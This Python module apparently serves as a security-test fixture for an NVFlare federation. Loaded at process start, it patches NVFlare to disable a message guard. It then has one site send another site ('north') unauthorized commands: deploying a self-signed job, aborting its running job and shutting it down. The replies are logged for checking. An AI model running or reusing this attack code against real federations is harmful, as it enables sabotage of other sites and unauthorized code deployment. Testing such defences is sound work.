"""A site of the federation that attacks the others, in processes with this folder on their path.

Python imports this file when it starts. NVFlare's process of the site then commands another site,
beside its own work, and writes the answers to ``attacks.json`` in the site's state.
"""

import functools
import io
import json
import os
import sys
import threading
import time
import zipfile
from pathlib import Path

VICTIM = "north"
SECONDS = 4.0  # to wait for an answer


def signed_by_itself(startup, folder):
    """A job like the operator's, signed with this site's key."""
    from nvflare.lighter.utils import load_private_key_file, sign_folders

    (folder / "config").mkdir(parents=True)
    (folder / "config" / "config_fed_client.json").write_text('{"format_version": 2}')
    sign_folders(str(folder), load_private_key_file(startup / "client.key"), startup / "client.crt")
    whole = io.BytesIO()
    with zipfile.ZipFile(whole, "w") as archive:
        for path in folder.rglob("*"):
            if path.is_file():
                archive.write(path, path.relative_to(folder))
    return whole.getvalue()


def attack(cell, engine, state):
    """Commands the other site once a job is running, and keeps its answers."""
    from nvflare.private.admin_defs import Message
    from nvflare.private.defs import CellChannel, RequestHeader, TrainingTopic, new_cell_message

    while not (jobs := engine.client_executor.get_run_processes_keys()):
        time.sleep(0.2)
    time.sleep(1)
    answers = {}

    def command(topic, body="", **headers):
        message = Message(topic, body)
        for name, value in headers.items():
            message.set_header(getattr(RequestHeader, name), value)
        reply = cell.send_request(
            channel=CellChannel.CLIENT_MAIN,
            topic=topic,
            target=VICTIM,
            request=new_cell_message({}, message),
            timeout=SECONDS,
        )
        said = reply.payload.body if isinstance(reply.payload, Message) else None
        answers[topic] = [reply.get_header("cn__return_code"), str(said)]

    folder = Path(state) / "job"
    app = signed_by_itself(Path(state) / "nvflare" / "startup", folder)
    meta = {"job_id": "stolen", "name": "stolen"}
    command(TrainingTopic.CHECK_STATUS)
    command(TrainingTopic.DEPLOY, app, JOB_ID="stolen", JOB_META=meta, APP_NAME="app")
    command(TrainingTopic.ABORT, JOB_ID=jobs[0])
    command(TrainingTopic.SHUTDOWN)
    (Path(state) / "attacks.json").write_text(json.dumps(answers))


def install():
    from nvflare.fuel.f3.cellnet.core_cell import CoreCell
    from nvflare.private.fed.client import admin

    take, begin = CoreCell.process_message, admin.FedAdminAgent.__init__
    state = json.loads(os.environ["FEDVLM_SITE"])["state"]

    def changed(self, client_name, cell, app_ctx):
        begin(self, client_name, cell, app_ctx)
        core = cell.core_cell
        core.process_message = functools.partial(take, core)  # its own guard is gone
        threading.Thread(target=attack, args=[cell, app_ctx, state], daemon=True).start()

    admin.FedAdminAgent.__init__ = changed


if any("client_train" in word for word in sys.orig_argv):
    install()
